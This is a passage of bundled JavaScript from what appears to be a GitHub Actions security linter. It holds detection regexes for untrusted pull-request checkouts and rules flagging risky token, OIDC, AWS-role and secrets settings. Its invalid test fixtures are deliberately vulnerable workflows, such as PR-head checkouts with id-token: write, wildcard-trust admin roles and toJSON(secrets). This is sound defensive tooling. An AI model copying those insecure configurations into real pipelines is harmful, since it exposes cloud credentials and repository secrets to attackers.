  return expression.replace(/\[\s*'([^']*)'\s*\]/g, ".$1").replace(/\[\s*"([^"]*)"\s*\]/g, ".$1");
}
var HEAD_REFERENCE = /github\.head_ref\b|\.head\.(?:sha|ref)\b|\bhead_(?:sha|ref|branch)\b|\.merge_commit_sha\b|workflow_run\.head_commit\.id\b|\boutputs\.[\w-]*(?:head|pr)[_-]?(?:sha|ref|branch|commit)\b/i;
var HEAD_REPOSITORY = /\.head\.repo\.full_name\b|workflow_run\.head_repository\.full_name\b|\boutputs\.[\w-]*head[_-]?repo[\w-]*\b/i;
function headReferenceIn(step, path) {
  const value = getPath(step.attributes, path);
  if (typeof value !== "string") return void 0;
  for (const { expression } of expressionsAt(step, path)) {
    const normalised = normalise(expression);
    const match = HEAD_REFERENCE.exec(normalised) ?? (path[path.length - 1] === "repository" ? HEAD_REPOSITORY.exec(normalised) : null);
    if (match) return `\${{ ${expression} }}`;
  }
  if (/\brefs\/pull\/(?:\$\{\{[^}]*\}\}|[^/\s]+)\/(?:head|merge)\b/.test(value)) return value;
  return void 0;
}
var GH_PR_CHECKOUT = commandPattern(String.raw`gh\s+pr\s+checkout\b`);
var GIT_FETCH_PULL = commandPattern(String.raw`git\s+(?:fetch|pull)\b[^\n]*\bpull\/(?:\$\{\{[^}]*\}\}|[^\s/]+)\/(?:head|merge)\b`);
var GIT_SWITCH_HEAD = commandPattern(String.raw`git\s+(?:checkout|switch|fetch|pull)\b[^\n]*\$\{\{[^}]*(?:head_ref|head\.ref|head\.sha|head_sha|head_branch)`);
function untrustedCheckout(step) {
  if (usesAction(step, "actions/checkout")) {
    for (const input of ["ref", "repository"]) {
      const what = headReferenceIn(step, ["with", input]);
      if (what) return { at: ["with", input], what };
    }
    return void 0;
  }
  const script = runScript(step);
  if (script === void 0) return void 0;
  if (GH_PR_CHECKOUT.test(script)) return { at: ["run"], what: "gh pr checkout" };
  if (GIT_FETCH_PULL.test(script)) return { at: ["run"], what: "git fetch of refs/pull/…" };
  if (GIT_SWITCH_HEAD.test(script)) return { at: ["run"], what: "git checkout of the pull request head" };
  return void 0;
}
function firstUntrustedCheckout(job, graph) {
  const steps = stepsOf(job, graph);
  for (const [index, step] of steps.entries()) {
    const checkout = untrustedCheckout(step);
    if (checkout) return { step, index, checkout };
  }
  return void 0;
}
var WORKSPACE_CODE = [
  [commandPattern(String.raw`(?:npm|pnpm)\s+(?:install|i|ci|run|run-script|test|t|build|start|exec|rebuild|pack|publish)\b`), "npm/pnpm"],
  [commandPattern(String.raw`yarn(?:\s+(?:install|run|test|build|start|exec)\b|\s*$)`), "yarn"],
  [commandPattern(String.raw`(?:npx|bunx|bun\s+(?:install|run|test|x))\b`), "npx/bun"],
  [commandPattern(String.raw`(?:make|cmake|ninja|bazel|bazelisk)\b`), "make"],
  [commandPattern(String.raw`(?:\.\/gradlew|gradle|\.\/mvnw|mvn|ant|sbt)\b`), "a JVM build"],
  [commandPattern(String.raw`(?:pip3?|python3?\s+-m\s+pip|uv\s+pip)\s+install\b[^\n]*(?:\s-e\s|\s--editable\b|\s-r\s|\s\.(?:\[[^\]]*\])?(?:\s|$)|requirements)`), "pip install"],
  [commandPattern(String.raw`(?:python3?\s+(?:setup\.py|-m\s+(?:pytest|tox|nox|build|unittest))|pytest|tox|nox|poetry\s+(?:install|run|build)|pipenv\s+(?:install|run)|uv\s+(?:sync|run|build)|hatch\s+(?:run|build)|pdm\s+(?:install|run))\b`), "a Python build or test run"],
  [commandPattern(String.raw`go\s+(?:build|test|run|generate|install|vet)\b`), "go"],
  [commandPattern(String.raw`cargo\s+(?:build|test|run|check|clippy|bench|install\s+--path)\b`), "cargo"],
  [commandPattern(String.raw`(?:bundle\s+(?:install|exec)|rake|composer\s+(?:install|update|run)|dotnet\s+(?:build|test|run|restore|pack)|mix\s+(?:deps\.get|compile|test)|swift\s+(?:build|test)|deno\s+(?:run|task|test))\b`), "a build tool"],
  [commandPattern(String.raw`pre-commit\s+run\b`), "pre-commit"],
  [commandPattern(String.raw`docker\s+(?:buildx\s+)?(?:build|compose)\b|docker-compose\b`), "docker build"],
  [commandPattern(String.raw`(?:\.\/[\w.\/-]+|(?:ba|z)?sh\s+(?!-c\b)[\w.\/-]+\.sh\b|source\s+[\w.\/-]+|\.\s+[\w.\/-]+\.sh\b|node\s+(?!-e\b)[\w.\/-]+\.[cm]?js\b)`), "a script from the repository"]
];
function workspaceCodeRun(step) {
  if (usesLocalAction(step)) return `the local action ${String(step.attributes.uses)}`;
  const script = runScript(step);
  if (script === void 0) return void 0;
  for (const [pattern, what] of WORKSPACE_CODE) {
    const match = pattern.exec(script);
    if (match) return `\`${match[0].replace(/^[\s;&|(]+/, "").trim()}\` (${what})`;
  }
  return void 0;
}
function commenterChecked(job, step, graph) {
  const guard = /author_association|comment\.user\.login|github\.actor\b|github\.triggering_actor\b/i;
  if (typeof job.attributes.if === "string" && guard.test(job.attributes.if)) return true;
  for (const candidate of stepsOf(job, graph)) {
    if (typeof candidate.attributes.if === "string" && guard.test(candidate.attributes.if)) return true;
    if (usesAction(
      candidate,
      "actions-cool/check-user-permission",
      "prince-chrismc/check-actor-permissions-action",
      "sushichop/action-repository-permission",
      "lannonbr/repo-permission-check-action",
      "xt0rted/slash-command-action",
      "peter-evans/slash-command-dispatch",
      "skjnldsv/check-actor-permission"
    ))
      return true;
    const script = runScript(candidate);
    if (script && /collaborators\/[^\s/]+\/permission|getCollaboratorPermissionLevel|author_association/i.test(script)) return true;
    const code = getPath(candidate.attributes, ["with", "script"]);
    if (typeof code === "string" && /getCollaboratorPermissionLevel|author_association|collaborators\/[^\s/]+\/permission/i.test(code)) return true;
    if (candidate === step) break;
  }
  return false;
}

// packages/rules/src/github-actions/iam/gha-oidc-token-on-pull-request-target.ts
var gha_oidc_token_on_pull_request_target_default = defineRule({
  meta: {
    id: "gha-oidc-token-on-pull-request-target",
    title: "Workflow run by pull_request_target, issue_comment or workflow_run can mint cloud OIDC tokens",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "`id-token: write` lets a job request OIDC tokens that cloud providers exchange for credentials. Under `pull_request_target`, `issue_comment` or `workflow_run` the job runs in the base repository's trusted context for events anyone can cause (a fork's pull request, a comment), and its token's subject is that of the default branch, which deployment roles usually trust. One step that runs an injected expression or a compromised action then obtains the main branch's cloud credentials. (Jobs that also check out the pull request's code are reported by `gha-untrusted-checkout-id-token`.)",
    remediation: "Do not grant `id-token: write` in workflows triggered by untrusted events. Move the cloud work to a workflow on `push` to a protected branch, or to a job behind an environment with required reviewers.",
    precision: "medium",
    cwe: ["CWE-269"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions", "Dangerous-Workflow"] },
    tags: ["actions", "oidc", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect#adding-permissions-settings"]
  },
  check(resource, { graph, report }) {
    const workflow = resource.type === "workflow" ? resource : workflowOf(resource, graph);
    const triggers = [...triggersOf(workflow)].filter((event) => PRIVILEGED_UNTRUSTED_TRIGGERS.includes(event));
    const grant = idTokenWrite(resource);
    if (!workflow || triggers.length === 0 || !grant) return;
    const jobs = resource.type === "workflow" ? jobsOf(graph, workflow).filter((job) => job.attributes.permissions === void 0) : [resource];
    if (!jobs.some((job) => exposedJob(graph, job))) return;
    const who = resource.type === "workflow" ? "the workflow" : resource.name;
    report({ at: grant, message: `${who} can request OIDC tokens (id-token: write) while running on ${triggers.join(", ")}` });
  },
  examples: {
    valid: [
      {
        name: "id-token on push; pull_request_target without it; a job behind an environment",
        filename: ".github/workflows/deploy.yml",
        code: `on:
  push:
    branches: [main]
permissions:
  id-token: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
`,
        extraFiles: {
          ".github/workflows/label.yml": `on: pull_request_target
permissions:
  pull-requests: write
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo labelling
  preview:
    runs-on: ubuntu-latest
    environment: preview
    permissions:
      id-token: write
    steps:
      - run: ./preview.sh
`
        }
      }
    ],
    invalid: [
      {
        name: "workflow-level and job-level grants",
        filename: ".github/workflows/preview.yml",
        code: `on:
  pull_request_target:
  workflow_run:
    workflows: [build]
    types: [completed]
permissions:
  id-token: write
jobs:
  preview:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
      contents: read
    steps:
      - run: ./preview.sh
  comment:
    runs-on: ubuntu-latest
    steps:
      - run: ./comment.sh
`,
        errors: [
          { line: 7, column: 3, messageIncludes: "the workflow can request OIDC tokens (id-token: write) while running on pull_request_target, workflow_run" },
          { line: 12, column: 7, messageIncludes: "jobs.preview" }
        ]
      }
    ]
  }
});
function idTokenWrite(resource) {
  const permissions = resource.attributes.permissions;
  if (!grantsWrite(permissions, "id-token")) return void 0;
  return permissions === "write-all" ? ["permissions"] : ["permissions", "id-token"];
}
function jobsOf(graph, workflow) {
  return graph.targets(workflow.id, "contains").filter((child) => child.type === "job");
}
function exposedJob(graph, job) {
  return job.attributes.environment === void 0 && stepsOf(job, graph).length > 0 && !firstUntrustedCheckout(job, graph);
}

// packages/rules/src/github-actions/iam/gha-permissions-missing.ts
var gha_permissions_missing_default = defineRule({
  meta: {
    id: "gha-permissions-missing",
    title: "Workflow does not set GITHUB_TOKEN permissions",
    severity: "low",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow"],
    description: "Without a `permissions:` block at the workflow level or on a job, that job's GITHUB_TOKEN gets the repository's or organisation's default permissions, which are read and write on every scope in repositories created before 2023 and in many organisations. A compromised step then holds more than the job needs, and nothing in the file says what it needs.",
    remediation: "Add `permissions: {}` or `permissions: contents: read` at the top of the workflow and grant each job the scopes it uses (`pull-requests: write`, `packages: write`…).",
    precision: "high",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"]
  },
  check(workflow, { report, graph }) {
    if (workflow.attributes.permissions !== void 0) return;
    const triggers = triggersOf(workflow);
    if (triggers.size === 0 || triggers.size === 1 && triggers.has("workflow_call")) return;
    const jobs = graph.targets(workflow.id, "contains").filter((job) => job.type === "job");
    const unset = jobs.filter((job) => job.attributes.permissions === void 0);
    if (unset.length === 0) return;
    const names = unset.map((job) => job.name.replace(/^jobs\./, ""));
    const which = unset.length === jobs.length ? "any job" : `job${names.length > 1 ? "s" : ""} ${names.join(", ")}`;
    report({
      message: `no permissions block at the workflow level or on ${which}: the GITHUB_TOKEN gets the repository's default permissions, possibly write access to everything`
    });
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `name: CI
on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`
      },
      {
        name: "every job sets its own",
        filename: ".github/workflows/ci.yml",
        code: `on: push
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
    steps:
      - run: make test
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `name: CI
on: [push, pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
  release:
    runs-on: ubuntu-latest
    permissions:
      contents: write
    steps:
      - run: make release
`,
        errors: [{ line: 1, column: 1, messageIncludes: "job test" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-permissions-read-all.ts
var gha_permissions_read_all_default = defineRule({
  meta: {
    id: "gha-permissions-read-all",
    title: "Workflow or job grants the token read access to everything",
    severity: "low",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "`permissions: read-all` lets the GITHUB_TOKEN read every scope: private repository contents, security alerts, deployments, packages, actions logs. Read access is still disclosure: a compromised step in a private repository can copy the code and its vulnerability reports.",
    remediation: "List the scopes the job reads, usually just `contents: read`, or use `permissions: {}` when it needs none.",
    precision: "very-high",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#permissions"]
  },
  check(resource, { report }) {
    if (resource.attributes.permissions === "read-all") {
      report({ at: ["permissions"], message: `${resource.name} gives the GITHUB_TOKEN read-all permissions instead of the scopes it needs` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/scorecard.yml",
        code: `on: push
permissions: read-all
jobs:
  analysis:
    runs-on: ubuntu-latest
    steps:
      - run: make check
`,
        errors: [{ line: 2, column: 1, messageIncludes: "read-all" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-permissions-write-all.ts
var gha_permissions_write_all_default = defineRule({
  meta: {
    id: "gha-permissions-write-all",
    title: "Workflow or job grants the token write access to everything",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "`permissions: write-all` gives the job's GITHUB_TOKEN write access to contents, packages, pull requests, deployments, security events and more. Any step that is compromised (an action, a dependency, an injected script) can then push code, publish packages or approve its own changes.",
    remediation: "Set `permissions: {}` at the workflow level (or `contents: read`) and grant each job only the scopes it uses, e.g. `issues: write` for a labelling job.",
    precision: "very-high",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"]
  },
  check(resource, { report }) {
    if (resource.attributes.permissions === "write-all") {
      report({ at: ["permissions"], message: `${resource.name} gives the GITHUB_TOKEN write access to every scope` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      checks: write
    steps:
      - run: make test
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: push
permissions: write-all
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: write-all
    steps:
      - run: make test
`,
        errors: [
          { line: 2, column: 1 },
          { line: 6, column: 5 }
        ]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-pull-request-workflow-assumes-admin-role.ts
var PULL_REQUEST_TRIGGERS = ["pull_request_target", "pull_request", "issue_comment", "workflow_run"];
var gha_pull_request_workflow_assumes_admin_role_default = defineRule({
  meta: {
    id: "gha-pull-request-workflow-assumes-admin-role",
    title: "Workflow triggered by pull requests or comments assumes an AWS administrator role any branch can assume",
    severity: "high",
    category: "iam",
    platforms: ["github-actions", "terraform"],
    resourceTypes: ["step"],
    description: "A workflow that runs on `pull_request`, `pull_request_target`, `issue_comment` or `workflow_run` assumes, through `aws-actions/configure-aws-credentials`, an IAM role that is an administrator of the AWS account and whose trust policy accepts the OIDC token of any branch or pull request (a `sub` of `repo:org/repo:*`, `repo:org/*`, or none). Whoever can open a pull request or push a branch, or get code to run in such a workflow (a checkout of the pull request's head, an injected title), becomes an administrator of the account.",
    remediation: "Assume a read-only role in pull-request workflows. Keep the administrator (or deploying) role for workflows on protected branches or environments, and restrict its trust policy's `token.actions.githubusercontent.com:sub` to `repo:org/repo:ref:refs/heads/main` or `repo:org/repo:environment:production`.",
    precision: "high",
    cwe: ["CWE-269", "CWE-863"],
    tags: ["actions", "oidc", "aws", "iam-wildcard", "ci-untrusted-checkout"],
    references: [
      "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/configuring-openid-connect-in-amazon-web-services",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ]
  },
  check(step, { graph, report }) {
    if (!isConfigureAwsCredentials(step.attributes.uses)) return;
    const job = jobOf(step, graph);
    const workflow = workflowOf(step, graph);
    if (!job || !workflow) return;
    if (job.attributes.environment !== void 0) return;
    const triggers = [...triggersOf(workflow)].filter((event) => PULL_REQUEST_TRIGGERS.includes(event));
    if (triggers.length === 0) return;
    for (const role of graph.targets(step.id, "assumes")) {
      const trust = broadestTrust(githubOidcTrust(graph, role).filter((candidate) => acceptsRunsOf(candidate, triggers)));
      if (!trust) continue;
      const grants = adminGrantsOf(graph, role);
      if (grants.length === 0) continue;
      const subjects = trust.subjects.length === 0 ? "no sub condition" : `sub ${trust.subjects.map((subject) => `"${subject}"`).join(", ")}`;
      report({
        at: ["with", "role-to-assume"],
        message: `runs on ${triggers.join(", ")} and assumes ${role.name}, an AWS administrator role through ${describeAdminGrants(grants)} that trusts ${subjects}`,
        related: [
          { resource: workflow.id, at: ["on"], message: `triggered by ${triggers.join(", ")}` },
          { resource: trust.resource.id, at: trust.at, message: `the trust policy accepts ${subjects}` },
          ...adminRoleRelated({ role, grants })
        ]
      });
      return;
    }
  },
  examples: {
    valid: [
      {
        name: "the same role assumed on push to main",
        filename: ".github/workflows/deploy.yml",
        code: `on:
  push:
    branches: [main]
permissions:
  id-token: write
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/github-admin
          aws-region: eu-west-1
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "github_admin" {
  name = "github-admin"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:*" } }
    }]
  })
  managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]
}
`
        }
      },
      {
        name: "pull requests assume a role that only main can assume",
        filename: ".github/workflows/plan.yml",
        code: `on: pull_request
permissions:
  id-token: write
  contents: read
jobs:
  plan:
    runs-on: ubuntu-latest
    steps:
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/github-admin
          aws-region: eu-west-1
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "github_admin" {
  name = "github-admin"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringEquals = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:ref:refs/heads/main" } }
    }]
  })
  managed_policy_arns = ["arn:aws:iam::aws:policy/AdministratorAccess"]
}
`
        }
      }
    ],
    invalid: [
      {
        name: "pull_request_target, any-ref trust, AdministratorAccess",
        filename: ".github/workflows/preview.yml",
        code: `on:
  pull_request_target:
    types: [opened, synchronize]
permissions:
  id-token: write
  contents: read
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/github-admin
          aws-region: eu-west-1
`,
        extraFiles: {
          "infra/iam.tf": `resource "aws_iam_role" "github_admin" {
  name = "github-admin"
  assume_role_policy = jsonencode({
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRoleWithWebIdentity"
      Principal = { Federated = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com" }
      Condition = { StringLike = { "token.actions.githubusercontent.com:sub" = "repo:acme/app:*" } }
    }]
  })
}

resource "aws_iam_role_policy_attachment" "github_admin" {
  role       = aws_iam_role.github_admin.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}
`
        },
        errors: [{ file: ".github/workflows/preview.yml", line: 14, column: 11, messageIncludes: "runs on pull_request_target and assumes aws_iam_role.github_admin" }]
      }
    ]
  }
});
function acceptsRunsOf(trust, triggers) {
  return triggers.some((event) => event === "pull_request" ? trust.reach.pullRequests : trust.reach.anyBranch);
}

// packages/rules/src/github-actions/iam/gha-pull-request-write-permissions.ts
var DANGEROUS_SCOPES = ["contents", "actions", "packages", "deployments", "pages", "repository-projects"];
var gha_pull_request_write_permissions_default = defineRule({
  meta: {
    id: "gha-pull-request-write-permissions",
    title: "Pull request workflow grants write access to code, packages or workflows",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job"],
    description: "Workflows started by pull requests run code and actions on content the pull request's author controls. Write access to `contents`, `actions`, `packages` or `deployments` in such a workflow turns any injection or compromised dependency into a push to the default branch, a tampered release or a published package.",
    remediation: "Keep pull request workflows read-only (`contents: read`); grant `pull-requests: write` or `checks: write` if they comment or report. Do writes that need more in a workflow triggered by `push` or `release`.",
    precision: "medium",
    cwe: ["CWE-272"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions"] },
    tags: ["actions", "permissions", "pull_request", "ci-token-permissions"],
    references: ["https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/controlling-permissions-for-github_token"]
  },
  check(resource, { report, graph }) {
    const trigger = hasAnyTrigger(triggersOf(workflowOf(resource, graph)), ["pull_request_target", "pull_request"]);
    const permissions = resource.attributes.permissions;
    if (!trigger || !isObject(permissions)) return;
    for (const scope of DANGEROUS_SCOPES) {
      if (permissions[scope] !== "write") continue;
      report({ at: ["permissions", scope], message: `${resource.name} grants ${scope}: write in a ${trigger} workflow; pull request code and actions then hold excessive permissions` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: pull_request
permissions:
  contents: read
  pull-requests: write
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - run: make test
`
      },
      {
        name: "write access on push only",
        filename: ".github/workflows/release.yml",
        code: `on:
  push:
    tags: ["v*"]
permissions:
  contents: write
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - run: make release
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/ci.yml",
        code: `on: pull_request_target
jobs:
  format:
    runs-on: ubuntu-latest
    permissions:
      contents: write
      pull-requests: write
    steps:
      - run: make fmt
`,
        errors: [{ line: 6, column: 7, messageIncludes: "contents: write" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-secrets-inherit.ts
var gha_secrets_inherit_default = defineRule({
  meta: {
    id: "gha-secrets-inherit",
    title: "Reusable workflow call passes every secret",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["job"],
    description: "`secrets: inherit` hands the called workflow every secret of the calling repository and organisation, not just the ones it uses. A compromised or later-modified called workflow (especially one pinned to a branch or tag) can read them all.",
    remediation: "Pass only the secrets the called workflow declares: `secrets: { NPM_TOKEN: ${{ secrets.NPM_TOKEN }} }`.",
    precision: "very-high",
    cwe: ["CWE-250"],
    tags: ["actions", "secrets", "reusable-workflows"],
    references: ["https://docs.github.com/en/actions/sharing-automations/reusing-workflows#passing-inputs-and-secrets-to-a-reusable-workflow"]
  },
  check(job, { report }) {
    if (typeof job.attributes.uses === "string" && job.attributes.secrets === "inherit") {
      report({ at: ["secrets"], message: `${job.name} passes every secret of the repository to ${job.attributes.uses} with secrets: inherit` });
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on: push
jobs:
  publish:
    uses: acme/workflows/.github/workflows/npm-publish.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3
    secrets:
      NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/release.yml",
        code: `on: push
jobs:
  publish:
    uses: acme/workflows/.github/workflows/npm-publish.yml@8f4b7f84864484a7bf31766abe9204da3cbe65b3
    secrets: inherit
`,
        errors: [{ line: 5, column: 5, messageIncludes: "secrets: inherit" }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-secrets-to-json.ts
var gha_secrets_to_json_default = defineRule({
  meta: {
    id: "gha-secrets-to-json",
    title: "Every secret is passed to one step",
    severity: "medium",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["workflow", "job", "step"],
    description: "`toJSON(secrets)` serialises all the secrets available to the workflow (repository, environment and organisation secrets) into one value. Whatever receives it, a script or an action, holds every credential instead of the one it needs, and a single leak exposes them all.",
    remediation: "Pass each secret the step needs by name: `env: NPM_TOKEN: ${{ secrets.NPM_TOKEN }}`.",
    precision: "very-high",
    cwe: ["CWE-250"],
    tags: ["actions", "secrets"],
    references: ["https://docs.github.com/en/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions"]
  },
  check(resource, { report }) {
    for (const { expression, path, range } of ownExpressions(resource)) {
      if (/\btoJSON\s*\(\s*secrets\s*\)/i.test(expression)) {
        report({ at: path, range, message: `\${{ ${expression} }} hands every secret of the workflow to ${resource.name}` });
      }
    }
  },
  examples: {
    valid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          DEPLOY_KEY: \${{ secrets.DEPLOY_KEY }}
`
      }
    ],
    invalid: [
      {
        filename: ".github/workflows/deploy.yml",
        code: `on: push
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: ./deploy.sh
        env:
          ALL_SECRETS: \${{ toJSON(secrets) }}
`,
        errors: [{ line: 8, column: 24 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-untrusted-checkout-id-token.ts
var gha_untrusted_checkout_id_token_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout-id-token",
    title: "Job that checks out pull request code can mint OIDC tokens",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["job"],
    description: "`id-token: write` lets any step of the job request an OpenID Connect token for this repository, which cloud providers exchange for credentials (an AWS role, a GCP service account, a package registry). In a `pull_request_target`, `workflow_run` or `issue_comment` job that checks out a pull request's code, that code can request the token and act as the repository in the cloud.",
    remediation: "Do not grant `id-token: write` to jobs that handle pull request code. Move the deployment or publishing to a separate job that only runs trusted code, or to a workflow triggered by `push` or `release`.",
    precision: "high",
    cwe: ["CWE-269", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Token-Permissions", "Dangerous-Workflow"] },
    tags: ["actions", "oidc", "pull_request_target", "ci-token-permissions"],
    references: [
      "https://docs.github.com/en/actions/security-for-github-actions/security-hardening-your-deployments/about-security-hardening-with-openid-connect",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ]
  },
  check(job, { report, graph }) {
    const workflow = workflowOf(job, graph);
    const trigger = hasAnyTrigger(triggersOf(workflow), PRIVILEGED_UNTRUSTED_TRIGGERS);
    if (!trigger) return;
    const permissions = effectivePermissions(job, workflow);
    if (!permissions || !grantsWrite(permissions.value, "id-token")) return;
    const checkout = firstUntrustedCheckout(job, graph);
    if (!checkout) return;
    const grant = permissions.value === "write-all" ? ["permissions"] : ["permissions", "id-token"];
    const message = `the ${trigger} job ${job.name} checks out pull request code (${checkout.checkout.what}) while holding id-token: write: that code can mint OIDC tokens for cloud credentials`;
    if (permissions.from === job) report({ at: grant, message });
    else report({ message, related: [{ resource: permissions.from.id, at: grant, message: "id-token: write granted here" }] });
  },
  examples: {
    valid: [
      {
        name: "OIDC only in a push workflow",
        filename: ".github/workflows/deploy.yml",
        code: `on:
  push:
    branches: [main]
permissions:
  contents: read
  id-token: write
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
      - run: ./deploy.sh
`
      }
    ],
    invalid: [
      {
        name: "pull_request_target preview deploy with OIDC",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
jobs:
  preview:
    runs-on: ubuntu-latest
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.event.pull_request.head.sha }}
      - uses: aws-actions/configure-aws-credentials@e3dd6a429d7300a6a4c196c26e071d42e0343502
        with:
          role-to-assume: arn:aws:iam::123456789012:role/preview
          aws-region: eu-west-1
`,
        errors: [{ line: 7, column: 7, messageIncludes: "id-token: write" }]
      },
      {
        name: "granted at the workflow level",
        filename: ".github/workflows/preview.yml",
        code: `on: pull_request_target
permissions:
  id-token: write
jobs:
  preview:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683
        with:
          ref: \${{ github.head_ref }}
`,
        errors: [{ line: 5, column: 3 }]
      }
    ]
  }
});

// packages/rules/src/github-actions/iam/gha-untrusted-checkout-secrets.ts
var gha_untrusted_checkout_secrets_default = defineRule({
  meta: {
    id: "gha-untrusted-checkout-secrets",
    title: "Secrets used after checking out pull request code",
    severity: "high",
    category: "iam",
    platforms: ["github-actions"],
    resourceTypes: ["step"],
    description: "Once a `pull_request_target`, `workflow_run` or `issue_comment` job has checked out a pull request's code, every later step shares the runner with it: files the pull request planted (a `.npmrc`, a git hook, a replaced binary on the path) run with whatever the step is given. Secrets passed to those steps are as good as handed to the pull request's author.",
    remediation: "Split the work: one unprivileged `pull_request` job handles the untrusted code, a separate job that never checks it out uses the secrets. Never pass secrets to steps that run after an untrusted checkout.",
    precision: "medium",
    cwe: ["CWE-200", "CWE-829"],
    frameworks: { "OpenSSF Scorecard": ["Dangerous-Workflow"] },
